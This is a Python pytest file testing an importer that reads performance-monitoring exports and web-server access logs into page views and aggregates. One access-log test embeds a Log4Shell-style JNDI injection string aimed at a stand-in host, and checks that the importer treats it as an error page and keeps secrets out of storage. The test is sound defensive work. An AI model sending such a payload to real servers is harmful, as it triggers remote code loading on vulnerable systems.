"""Performance systems whose exports are tables or logs: weighted cells, synonyms, units, mixed logs, hostile content."""

from __future__ import annotations

import csv
import gzip
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from docops_desktop.analysis.refresh import RefreshRequest, TotalsRequest, refresh
from docops_desktop.ingest.importer import list_adapters, preview_file
from docops_desktop.ingest.load.cells import parse_histogram, split
from docops_desktop.model.selection import Selection
from docops_desktop.model.timespan import parse_time
from docops_desktop.model.traffic import ViewClass
from docops_desktop.store.columnar_cache import open_facts
from docops_desktop.store.records import ImportRecord
from docops_desktop.store.workspace import Workspace

Load = Callable[..., ImportRecord]
Rows = Callable[..., list[dict[str, Any]]]
Put = Callable[[str, Any], Path]


def table(header: list[str], *lines: list[Any], delimiter: str = ",") -> str:
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=delimiter, lineterminator="\n").writerows([header, *lines])
    return buffer.getvalue()


def archive(*groups: dict[str, Any]) -> str:
    """A RUM Archive table: histograms stand unquoted in tab-separated text."""
    metrics = ("PLT", "TTFB", "FCP", "LCP", "CLS", "INP")
    names = ["SOURCE", "DATE", "DEVICETYPE", "USERAGENTFAMILY", "BEACONTYPE", "COUNTRY", "VISIBILITYSTATE", "BEACONS"]
    names += [f"{metric}{part}" for metric in metrics for part in ("HISTOGRAM", "AVG", "SUMLN", "COUNT")]
    base = {"SOURCE": "own", "DATE": "2026-08-01", "DEVICETYPE": "Mobile", "BEACONTYPE": "page view", "COUNTRY": "DE"}
    lines = ["\t".join(names)]
    for group in groups:
        cells = base | {f"{metric}HISTOGRAM": "{}" for metric in metrics} | group
        lines.append("\t".join(str(cells.get(name, "")) for name in names))
    return "\n".join(lines) + "\n"


def test_rum_archive_groups_become_weighted_cells(load: Load, rows: Rows, ws: Workspace) -> None:
    record = load(
        "archive",
        archive(
            {
                "BEACONS": 100,
                "PLTHISTOGRAM": '{"3":[3000,20],"1":[1000,60]}',
                "LCPHISTOGRAM": '{"1":[800,80]}',
                "CLSHISTOGRAM": '{"7":[250,100]}',
            },
            {"BEACONS": 7, "VISIBILITYSTATE": "hidden", "PLTHISTOGRAM": '{"3":[9000,7]}'},
            {"BEACONS": 5, "BEACONTYPE": "bfcache", "PLTHISTOGRAM": '{"0":[50,5]}'},
            {"BEACONS": 5, "PLTHISTOGRAM": '{"3":[9000'},
            {"BEACONS": 5, "PLTHISTOGRAM": '{"3":[9000,6]}'},
            {"BEACONS": "many"},
        ),
    )
    assert (record.adapter, record.grain) == ("rum_archive", "cell")
    assert (record.rows_read, record.rows_loaded, record.rows_quarantined) == (6, 3, 3)
    views = rows("SELECT weight, load_ms, lcp_ms, cls, view_class, time_ms FROM page_views ORDER BY page_view_id")
    moment = parse_time("2026-08-01T00:00:00Z")
    assert [tuple(view.values()) for view in views] == [
        (60, 1000, 800, 0.25, ViewClass.PAGE_VIEW, moment),
        (20, 3000, 800, 0.25, ViewClass.PAGE_VIEW, moment),
        (20, None, None, 0.25, ViewClass.PAGE_VIEW, moment),
        (7, 9000, None, None, ViewClass.HIDDEN, moment),
        (5, 50, None, None, ViewClass.BFCACHE, moment),
    ]
    facts = open_facts(ws)
    totals = refresh(facts, RefreshRequest(Selection(), (TotalsRequest("totals"),))).results["totals"]
    found = totals.everything.values
    assert (found["page_views"], found["sessions"]) == (100, 100)
    assert {row["reason"] for row in rows("SELECT reason FROM quarantine")} == {
        "unreadable histogram in 'PLTHISTOGRAM'",
        "'PLTHISTOGRAM' counts more measurements than page loads",
        "unreadable number in 'BEACONS'",
    }


def test_rum_archive_rows_of_json_may_hold_histograms_as_objects(load: Load, rows: Rows) -> None:
    row = {"DATE": "2026-08-01", "BEACONS": "3", "DEVICETYPE": "Desktop", "PLTHISTOGRAM": {"1": [1000, 2]}}
    assert load("json", [row]).adapter == "rum_archive"
    assert rows("SELECT weight, load_ms FROM page_views") == [
        {"weight": 2, "load_ms": 1000},
        {"weight": 1, "load_ms": None},
    ]


@given(
    weight=st.integers(0, 400),
    counts=st.lists(st.lists(st.integers(0, 40), max_size=6), min_size=1, max_size=3),
)
def test_cells_keep_each_distribution_and_the_number_of_page_loads(weight: int, counts: list[list[int]]) -> None:
    texts = [json.dumps({str(n): [100 * (n + 1), count] for n, count in enumerate(part)}) for part in counts]
    names = [f"m{n}" for n in range(len(counts))]
    weight = max(weight, *(sum(part) for part in counts))
    cells = list(split(weight, {name: parse_histogram(text) for name, text in zip(names, texts, strict=True)}))
    assert sum(size for size, _ in cells) == weight
    assert all(size > 0 for size, _ in cells)
    for name, part in zip(names, counts, strict=True):
        for n, count in enumerate(part):
            assert sum(size for size, values in cells if values[name] == 100 * (n + 1)) == count


def test_rum_archive_insights_are_figures(load: Load, rows: Rows) -> None:
    shares = [{"date": "2026_07_01", "percent": "60.5", "device": "Mobile", "timestamp": "1782864000000"}]
    shares.append(shares[0] | {"percent": "39.5", "device": None})
    record = load("insights", json.dumps(shares))
    assert (record.adapter, record.grain, record.rows_loaded) == ("rum_archive_insights", "aggregate", 2)
    assert rows("SELECT device_type, metric, value, start_ms FROM aggregates ORDER BY value") == [
        {"device_type": None, "metric": "percent", "value": 39.5, "start_ms": 1782864000000},
        {"device_type": "Mobile", "metric": "percent", "value": 60.5, "start_ms": 1782864000000},
    ]


def test_bluetriangle_hits(load: Load, rows: Rows) -> None:
    header = [
        "timestamp",
        "siteID",
        "sID",
        "gID",
        "pageName",
        "txnName",
        "device",
        "country",
        "AB",
        "CmpN",
        "CmpM",
        "CmpS",
    ]
    header += ["onload", "firstByte", "largestContentfulPaint", "intToNextPaint", "brandValue", "orderNumber"]
    first = [
        1785578400,
        "S",
        "9000001",
        "77",
        "Home",
        "t",
        "Mobile",
        "US",
        "A",
        "c1",
        "cpc",
        "google",
        1800,
        200,
        1500,
        120,
        "",
        "",
    ]
    order = [
        1785578460,
        "S",
        "9000001",
        "77",
        "Confirmation",
        "t",
        "Mobile",
        "US",
        "A",
        "c1",
        "cpc",
        "google",
        2070,
        227,
        1710,
        "",
        49.99,
        "1004",
    ]
    broken = ["then", *first[1:]]
    record = load("hits", table(header, first, order, broken))
    assert (record.adapter, record.rows_read, record.rows_loaded, record.rows_quarantined) == (
        "bluetriangle_hits",
        3,
        2,
        1,
    )
    views = rows("SELECT page_group, load_ms, ttfb_ms, lcp_ms, inp_ms, conversions, revenue_minor FROM v_page_views")
    assert views[0] == {
        "page_group": "Home",
        "load_ms": 1800,
        "ttfb_ms": 200,
        "lcp_ms": 1500,
        "inp_ms": 120,
        "conversions": 0,
        "revenue_minor": 0,
    }
    assert (views[1]["conversions"], views[1]["revenue_minor"], views[1]["inp_ms"]) == (1, 4999, None)
    assert rows("SELECT campaign, medium, source, variant FROM v_sessions") == [
        {"campaign": "c1", "medium": "cpc", "source": "google", "variant": "A"}
    ]


@pytest.mark.parametrize(
    ("header", "cells", "adapter", "figures"),
    [
        (
            ["Time", "Test", "Node", "Document Complete (ms)", "% Availability", "# Runs"],
            ["2026-08-01 10:00:00", "Home", "Berlin", "3120", "99.31", "12"],
            "catchpoint_csv",
            {"Document Complete (ms)": ("ms", 3120.0, 12.0), "% Availability": ("%", 99.31, 12.0)},
        ),
        (
            ["Page Group", "Median Time (ms)", "MoE (ms)", "Measurements", "% of total"],
            ["Home", "1,840", "12.5", "120,000", "40.5"],
            "mpulse_dashboard",
            {
                "Median Time (ms)": ("ms", 1840.0, 120000.0),
                "MoE (ms)": ("ms", 12.5, 120000.0),
                "% of total": ("%", 40.5, 120000.0),
            },
        ),
        (
            ["timestamp", "app", "country", "rum.page_view.time.ns.p75", "rum.page_view.count"],
            ["1785578400000", "shop", "DE", "2310000000", "42"],
            "splunk_rum",
            {"rum.page_view.time.ns.p75": ("ns", 2310000000.0, None), "rum.page_view.count": (None, 42.0, None)},
        ),
        (
            ["browserFamily", "avg(useraction.duration)", "count(*)"],
            ["Firefox", "1,200.5", "42"],
            "dynatrace_usql_csv",
            {"avg(useraction.duration)": (None, 1200.5, None), "count(*)": (None, 42.0, None)},
        ),
        (
            ["yyyymm", "origin", "device", "p75_lcp", "p75_cls"],
            ["202607", "https://shop.example.com", "phone", "2100", "0.07"],
            "crux_bigquery",
            {"p75_lcp": (None, 2100.0, None), "p75_cls": (None, 0.07, None)},
        ),
    ],
)
def test_tables_of_figures(
    header: list[str], cells: list[str], adapter: str, figures: dict[str, Any], load: Load, rows: Rows
) -> None:
    record = load("figures", table(header, cells))
    assert (record.adapter, record.grain) == (adapter, "aggregate")
    assert (record.rows_read, record.rows_loaded) == (1, 1)
    found = rows("SELECT metric, unit, value, samples FROM aggregates")
    assert {row["metric"]: (row["unit"], row["value"], row["samples"]) for row in found} == figures
    assert not rows("SELECT * FROM page_views")


def test_a_figure_that_is_no_number_rejects_its_record(load: Load, rows: Rows) -> None:
    header = ["Time", "Test", "Document Complete (ms)", "# Runs"]
    lines = [[f"2026-08-01 1{n}:00:00", "Home", str(3000 + n), "12"] for n in range(5)]
    record = load("figures", table(header, *lines, ["2026-08-01 18:00:00", "Home", "slow", "12"]))
    assert (record.rows_loaded, record.rows_quarantined) == (5, 1)
    assert len(rows("SELECT * FROM aggregates")) == 5


@pytest.mark.parametrize(
    ("header", "cells", "adapter", "expected"),
    [
        (
            ["timestamp", "check_name", "server_time", "start_render", "onload_time", "speed_index"],
            ["2026-08-01T10:00:00Z", "Home", "210", "900", "2400", "1500"],
            "rigor",
            (2400, 210, None),
        ),
        (
            ["timestamp", "test_name", "onload_time_ms", "largest_contentful_paint_time_ms", "cumulative_layout_shift"],
            ["2026-08-01T10:00:00Z", "Home", "2400", "1800", "0.01"],
            "splunk_synthetics",
            (2400, None, 1800),
        ),
    ],
)
def test_synthetic_runs_are_never_peoples_page_views(
    header: list[str], cells: list[str], adapter: str, expected: tuple[Any, ...], load: Load, rows: Rows, ws: Workspace
) -> None:
    assert load("runs", table(header, cells)).adapter == adapter
    (view,) = rows("SELECT load_ms, ttfb_ms, lcp_ms, view_class FROM page_views")
    assert tuple(view.values()) == (*expected, ViewClass.SYNTHETIC)
    assert open_facts(ws).header.excluded["synthetic test"] == 1


def test_newrelic_csv_and_appdynamics(load: Load, rows: Rows) -> None:
    header = [
        "timestamp",
        "appName",
        "pageUrl",
        "session",
        "duration",
        "backendDuration",
        "userAgentName",
        "deviceType",
    ]
    record = load(
        "nr",
        table(header, ["2026-08-01 10:00:00", "Shop", "https://s.example/a", "x", "2.5", "0.25", "Chrome", "Mobile"]),
    )
    assert record.adapter == "newrelic_pageview"
    assert rows("SELECT load_ms, ttfb_ms FROM page_views") == [{"load_ms": 2500, "ttfb_ms": 250}]
    fields = {"startTimeMS": 1785578400000, "metrics": {"durationMS": 9000}, "browser": "Chrome", "pageviews": 4}
    record = load("appd", [fields | {"geocountry": "France", "ip": "198.51.100.9"}])
    assert (record.adapter, record.grain) == ("appdynamics_sessions", "session")
    found = rows("SELECT start_ms, end_ms, views FROM sessions ORDER BY views DESC LIMIT 1")
    assert found == [{"start_ms": 1785578400000, "end_ms": 1785578409000, "views": 4}]


def test_newrelic_page_view_timings_do_not_count_page_views_twice(load: Load, rows: Rows) -> None:
    timing = {"timestamp": 1785578400000, "timingName": "largestContentfulPaint", "largestContentfulPaint": 2.1}
    record = load("pvt", [timing | {"session": "a", "pageUrl": "https://s.example/"}])
    assert record.adapter == "newrelic_pageviewtiming"
    assert rows("SELECT lcp_ms, view_class FROM page_views") == [{"lcp_ms": 2100, "view_class": ViewClass.XHR}]


HOSTILE = r"${jndi:ldap://x.example/a}"
AGENT = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"


def test_mixed_apache_lines_bots_and_hostile_content(load: Load, rows: Rows, ws: Workspace) -> None:
    when = "[01/Aug/2026:10:00:00 +0200]"
    lines = [
        f'198.51.100.7 - - {when} "GET / HTTP/1.1" 200 512',
        f'198.51.100.7 - - {when} "GET /p?utm_source=news&token=hush42 HTTP/1.1" 200 512 "-" "{AGENT}"',
        f'shop.example.com:443 2001:db8::1 - - {when} "GET /{HOSTILE} HTTP/1.1" 404 - "-" "{HOSTILE}"',
        f'66.249.66.1 - - {when} "GET /p HTTP/1.1" 200 9 "-" "Mozilla/5.0 (compatible; Googlebot/2.1)"',
        f'198.51.100.7 - - {when} "GET /style.css HTTP/1.1" 200 9 "-" "{AGENT}"',
        f'198.51.100.7 - - {when} "-" 408 - "-" "-"',
        "what is this",
    ]
    record = load("access", gzip.compress(("\n".join(lines) + "\n").encode()))
    assert record.adapter == "access_log"
    assert (record.rows_read, record.rows_loaded, record.rows_filtered, record.rows_quarantined) == (7, 5, 1, 1)
    views = rows("SELECT page_url, view_class, load_ms FROM v_page_views ORDER BY page_view_id")
    assert {view["view_class"] for view in views} == {"page view", "error page", "bot"}
    assert all(view["load_ms"] is None for view in views)
    hostile = next(view for view in views if "jndi" in (view["page_url"] or ""))
    assert hostile["view_class"] == "error page"
    assert rows("SELECT min(time_ms) AS t FROM page_views") == [{"t": parse_time("2026-08-01T08:00:00Z")}]
    data = ws.path.read_bytes()
    assert b"hush42" not in data
    assert b"198.51.100.7" not in data


def test_iis_fields_change_within_a_file(load: Load, rows: Rows) -> None:
    log = (
        "#Software: Microsoft Internet Information Services 10.0\n"
        "#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status time-taken\n"
        f"2026-08-01 08:00:00 GET / - 198.51.100.7 {AGENT.replace(' ', '+')} 200 123\n"
        "#Fields: date time cs-host cs-method cs-uri-stem c-ip sc-status\n"
        "2026-08-01 08:00:05 shop.example.com GET /b 198.51.100.7 200\n"
        "2026-08-01 08:00:06 GET /c 198.51.100.7 200\n"
    )
    record = load("iis", log)
    assert (record.adapter, record.rows_loaded, record.rows_quarantined) == ("access_log", 2, 1)
    assert rows("SELECT page_url, ttfb_ms, load_ms FROM v_page_views ORDER BY time") == [
        {"page_url": "/", "ttfb_ms": 123, "load_ms": None},
        {"page_url": "/b", "ttfb_ms": None, "load_ms": None},
    ]


def test_systems_without_a_public_schema_say_so(put: Put) -> None:
    unknown = {spec.name for spec in list_adapters() if spec.evidence == "unknown"}
    assert {
        "bluetriangle_hits",
        "catchpoint_csv",
        "mpulse_dashboard",
        "rigor",
        "splunk_rum",
        "splunk_synthetics",
    } <= unknown
    path = put("x", table(["Time", "Test", "Document Complete (ms)"], ["2026-08-01 10:00:00", "Home", "3120"]))
    seen = preview_file(path)
    assert any("nothing public" in warning for warning in seen.warnings)
    assert {column.name: column.target or column.decided for column in seen.columns} == {
        "Time": "time",
        "Test": "subject",
        "Document Complete (ms)": "figure",
    }


def test_every_adapter_says_its_grain_evidence_and_what_to_know() -> None:
    for spec in list_adapters():
        assert spec.grain
        assert spec.evidence
        assert spec.system
